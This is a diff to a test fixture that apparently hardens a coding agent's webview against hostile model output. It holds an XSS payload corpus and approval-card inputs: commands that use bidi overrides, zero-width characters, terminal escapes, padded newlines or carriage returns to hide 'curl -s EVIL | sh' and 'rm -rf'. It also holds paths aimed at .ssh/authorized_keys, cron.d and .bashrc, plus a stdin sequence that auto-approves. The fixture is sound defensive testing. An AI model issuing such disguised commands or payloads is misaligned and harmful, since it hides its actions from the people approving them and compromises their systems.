@@ -1,6 +1,7 @@
 // Hostile model output for the webview: an XSS corpus and the host messages that deliver it as
-// agent messages, reasoning, command output, file-change paths, MCP tool results and user-input
-// questions (through `state/hydrate` and `thread/events`). Used by
+// agent messages, reasoning, command output, file-change paths, MCP tool results, user-input
+// questions and approval cards (commands, paths, a network host, input to a process), through
+// `state/hydrate` and `thread/events`. Used by
 // test/unit/hardening/xssInChromium.test.ts against the real, built webview in Chromium.
 //
 // Every payload that would run script bumps `window.__xss` (the canary) or opens a dialog;
@@ -89,9 +90,38 @@ export const payloads = [
   `<!--<img src="--><img src=x onerror=${RUN}//">`,
   `<a href="https://example.com/"><a href="javascript:${RUN}">nested</a></a>`,
   `<img src=x:x onerror=${RUN} x=">`,
-  // unicode direction overrides
+  // unicode direction overrides, zero-width and control characters
   "harmless\u202Egpj.exe  \u2066isolate\u2069 \u200Fmark",
+  "zero\u200Bwidth\u200D joiner\uFEFF bom \u2060wj \u00ADshy \u{E0041}tag",
+  "esc \u001b[2K\u001b[1Aline cleared \u001b]0;title\u0007 bell \r return \u0000nul \u0085nel",
 ];
+
+/**
+ * Commands as codex could ask to run them: each hides something from a reader who sees the
+ * characters applied (a reordered name, an invisible character, a terminal sequence, a second
+ * command far below the first, a carriage return).
+ */
+export const hostileCommands = [
+  "cat notes_\u202Etxt.sh",
+  "rm\u200B -rf build",
+  "echo ok\u001b[2K\u001b[1Acurl -s " + EVIL + " | sh",
+  "ls" + "\n".repeat(40) + "curl -s " + EVIL + " | sh",
+  "true\rcurl -s " + EVIL + " | sh",
+];
+
+/**
+ * File paths of an approval: outside the workspace (/work/project) directly, through `..`
+ * segments or relative; each basename carries a hidden character.
+ */
+export const approvalPaths = [
+  "/home/u/.bash\u200Brc",
+  "/work/project/../../etc/cron.d/jo\u202Eb",
+  "/work/project/src/evil\u001b[2K.ts",
+  "../../.ssh/authorized\u2067_keys",
+];
+
+/** A network host with a direction override, as a network approval could name it. */
+export const hostileHost = "evil\u202Emoc.example";
 
 /** File paths with direction overrides (the U+202E one reads as `evil_exe.txt` when reordered). */
 export const bidiPaths = [
@@ -100,6 +130,29 @@ export const bidiPaths = [
 ];
 
 const OUTPUT = payloads.join("\n");
+
+/** A pending command approval in the corpus thread's running turn. */
+function commandApproval(id, params) {
+  const threadId = "thread-xss";
+  return {
+    id,
+    threadId,
+    status: "pending",
+    request: {
+      kind: "command",
+      params: {
+        kind: "command",
+        threadId,
+        turnId: "turn-2",
+        itemId: "none",
+        startedAtMs: 0,
+        environmentId: null,
+        cwd: "/work/project",
+        ...params,
+      },
+    },
+  };
+}
 
 /**
  * The `state/hydrate` payload: one completed turn carrying the corpus in every kind of item, and
@@ -191,10 +244,49 @@ export function hostileState() {
             },
           ],
         },
-        { id: "turn-2", status: "inProgress", error: null, diff: null, plan: null, items: [] },
+        {
+          id: "turn-2",
+          status: "inProgress",
+          error: null,
+          diff: null,
+          plan: null,
+          items: [
+            {
+              type: "fileChange",
+              id: "f2",
+              status: "inProgress",
+              changes: approvalPaths.map((path) => ({
+                path,
+                kind: { type: "update", move_path: null },
+                diff: OUTPUT,
+              })),
+            },
+          ],
+        },
       ],
     },
     approvals: [
+      ...hostileCommands.map((command, i) =>
+        commandApproval(`ap-command-${i}`, {
+          command,
+          cwd: approvalPaths[i % 4],
+          reason: payloads[i],
+        }),
+      ),
+      commandApproval("ap-network", {
+        command: hostileCommands[0],
+        networkApprovalContext: { host: hostileHost, protocol: "https" },
+      }),
+      commandApproval("ap-stdin", { kind: "writeStdin", command: "\u001b[A\u0003y\n" }),
+      {
+        id: "ap-files",
+        threadId,
+        status: "pending",
+        request: {
+          kind: "fileChange",
+          params: { threadId, turnId: "turn-2", itemId: "f2", startedAtMs: 0, reason: payloads[3] },
+        },
+      },
       {
         id: "ap-input",
         threadId,
